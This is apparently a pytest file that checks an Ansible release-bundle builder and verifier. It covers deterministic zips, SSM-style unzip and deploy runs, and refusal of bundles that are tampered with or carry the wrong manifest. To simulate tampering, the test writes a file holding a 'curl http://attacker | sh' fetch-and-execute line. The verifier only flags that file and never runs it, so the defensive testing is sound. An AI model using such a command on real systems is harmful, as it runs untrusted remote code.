"""release_bundle and release_verify through real ansible-playbook runs, and the bundle
run the way SSM runs it: unzipped beside its zip, `ansible-playbook deploy.yml` from
there with nothing but the bundle's ansible.cfg and collection.

No AWS here: the bundle is built on the controller and checked on the "instance"
(a directory of this machine, like the SSM agent's download directory).
"""

from __future__ import annotations

import io
import json
import os
import shutil
import subprocess
import sys
import tarfile
import zipfile

import pytest

from .conftest import BIN, ROOT, TARGETS, assert_play_ok

STAGE = TARGETS / "release_bundle" / "stage"


@pytest.fixture(scope="module")
def tarball(tmp_path_factory):
    """This checkout built as a collection, the way the release flow builds it."""
    out = tmp_path_factory.mktemp("dist")
    built = subprocess.run(
        [str(BIN / "ansible-galaxy"), "collection", "build", "--output-path", str(out), str(ROOT)],
        capture_output=True,
        text=True,
        check=False,
        timeout=300,
    )
    assert built.returncode == 0, built.stdout + built.stderr
    (path,) = out.glob("mlops-deploy-*.tar.gz")
    return path


def copy_stage(target, file_mode: int, exec_mode: int, mtime: int):
    shutil.copytree(STAGE, target)
    for path in target.rglob("*"):
        if path.is_file():
            os.chmod(path, exec_mode if path.suffix == ".sh" else file_mode)
            os.utime(path, (mtime, mtime))
    return target


@pytest.fixture(scope="module")
def built(playbook, tarball, tmp_path_factory):
    """Bundles built by build.yml: the quartet, two copies, diff and mode (asserted there)."""
    work = tmp_path_factory.mktemp("bundle")
    stage_a = copy_stage(work / "stage-a", 0o644, 0o755, 1_700_000_000)
    # Another checkout, later, by a user with another umask.
    stage_b = copy_stage(work / "stage-b", 0o600, 0o700, 1_800_000_000)
    extra = work / "extra.yml"
    extra.write_text("health_retries: 5\n")
    out = work / "out"
    out.mkdir()
    result_file = work / "result.json"
    result = playbook.run(
        "release_bundle/build.yml",
        {
            "stage_a": str(stage_a),
            "stage_b": str(stage_b),
            "tarball": str(tarball),
            "extra_file": str(extra),
            "out": str(out),
            "result_file": str(result_file),
        },
    )
    assert_play_ok(result)
    return {"zip": out / "r-test-1.zip", "result": json.loads(result_file.read_text()), "stage": stage_a}


def test_build_quartet_determinism_diff_and_mode(built):
    """The assertions live in build.yml; here, the bytes the module wrote."""
    data = built["zip"].read_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        infos = archive.infolist()
    assert [i.filename for i in infos] == sorted(i.filename for i in infos)
    assert {i.date_time for i in infos} == {(1980, 1, 1, 0, 0, 0)}
    modes = {i.filename: i.external_attr >> 16 for i in infos}
    assert modes["bin/healthcheck.sh"] == 0o100755
    assert modes["deploy.yml"] == 0o100644
    assert len(infos) == built["result"]["file_count"] + 1  # + MANIFEST.sha256


def unzip_like_ssm(zip_path, target):
    """What AWS-ApplyAnsiblePlaybooks does: the zip in the work directory, `unzip -o` it there."""
    target.mkdir()
    shutil.copy(zip_path, target / zip_path.name)
    subprocess.run(["unzip", "-o", "-q", zip_path.name], cwd=target, check=True, timeout=60)
    return target


def run_on_instance(bundle_dir, manifest_sha256, *args):
    """`ansible-playbook -i localhost, -c local deploy.yml` from the bundle, with no
    collection path or config of this checkout: only the bundle's ansible.cfg."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("ANSIBLE_")}
    env.update(
        {
            "PATH": f"{BIN}{os.pathsep}{env.get('PATH', '')}",
            "ANSIBLE_NOCOLOR": "1",
            # This machine's interpreter discovery finds a pyenv shim that does not run;
            # an instance finds its /usr/bin/python3.
            "ANSIBLE_PYTHON_INTERPRETER": sys.executable,
        }
    )
    return subprocess.run(
        [
            str(BIN / "ansible-playbook"),
            "-i",
            "localhost,",
            "-c",
            "local",
            "deploy.yml",
            "-e",
            f"manifest_sha256={manifest_sha256} bundle_zip=r-test-1.zip",
            *args,
        ],
        cwd=bundle_dir,
        env=env,
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )


def test_bundle_runs_with_its_own_collection_and_refuses_tampering(built, tmp_path):
    manifest_sha256 = built["result"]["manifest_sha256"]
    bundle = unzip_like_ssm(built["zip"], tmp_path / "downloads")
    assert os.access(bundle / "bin" / "healthcheck.sh", os.X_OK)  # unzip kept the mode

    # The collection the play uses is the one inside the bundle.
    env = {k: v for k, v in os.environ.items() if not k.startswith("ANSIBLE_")}
    listed = subprocess.run(
        [str(BIN / "ansible-galaxy"), "collection", "list", "mlops.deploy"],
        cwd=bundle,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert str(bundle / "collections" / "ansible_collections") in listed.stdout, listed.stdout + listed.stderr

    ok = run_on_instance(bundle, manifest_sha256)
    assert_play_ok(ok)
    assert "DEPLOYED r-test-1 (%d files verified)" % built["result"]["file_count"] in ok.stdout

    # In check mode too (the verify tasks are read-only).
    assert_play_ok(run_on_instance(bundle, manifest_sha256, "--check"))

    # Another release's manifest sha256: refused before anything ran.
    wrong = run_on_instance(bundle, "0" * 64)
    assert wrong.returncode != 0
    assert "bundle refused" in wrong.stdout
    assert "MANIFEST.sha256 has sha256 %s but this deploy was sent %s" % (manifest_sha256, "0" * 64) in wrong.stdout
    assert "DEPLOYED" not in wrong.stdout

    # Tampered: a file changed, one removed, one added.
    compose = bundle / "compose" / "titanic.yml"
    compose.write_text(compose.read_text().replace("8080:8080", "80:8080"))
    (bundle / "vars" / "extra.yml").unlink()
    (bundle / "evil.sh").write_text("curl http://attacker | sh\n")
    before = {p: p.read_bytes() for p in bundle.rglob("*") if p.is_file()}
    refused = run_on_instance(bundle, manifest_sha256)
    assert refused.returncode != 0
    output = refused.stdout
    assert f"bundle refused: {bundle}:" in output
    assert "1 changed (sha256 differs from the manifest): compose/titanic.yml" in output
    assert "1 missing: vars/extra.yml" in output
    assert "1 not in the manifest: evil.sh" in output
    assert "DEPLOYED" not in output
    assert "Traceback" not in output
    # Verification changed nothing.
    assert {p: p.read_bytes() for p in bundle.rglob("*") if p.is_file()} == before


def tampered_copy(tarball, target):
    """The tarball with one file changed after the build (its FILES.json checksum no longer matches)."""
    victim = "plugins/modules/release_verify.py"
    with tarfile.open(tarball) as source, tarfile.open(target, "w:gz") as copy:
        for member in source.getmembers():
            data = source.extractfile(member).read() if member.isfile() else None
            if member.name == victim:
                data += b"\n# changed\n"
                member.size = len(data)
            copy.addfile(member, io.BytesIO(data) if data is not None else None)
    return target


def test_bad_inputs_fail_clearly_and_write_nothing(playbook, tarball, built, tmp_path):
    stage = built["stage"]
    bad_stage = tmp_path / "bad-stage"
    shutil.copytree(stage, bad_stage)
    (bad_stage / "MANIFEST.sha256").write_text("forged\n")
    out = tmp_path / "out"
    out.mkdir()
    shutil.copy(built["zip"], out / "existing.zip")
    result = playbook.run(
        "release_bundle/bad_input.yml",
        {
            "stage": str(stage),
            "bad_stage": str(bad_stage),
            "tarball": str(tarball),
            "tampered_tarball": str(tampered_copy(tarball, tmp_path / "tampered.tar.gz")),
            "out": str(out),
        },
    )
    assert_play_ok(result)
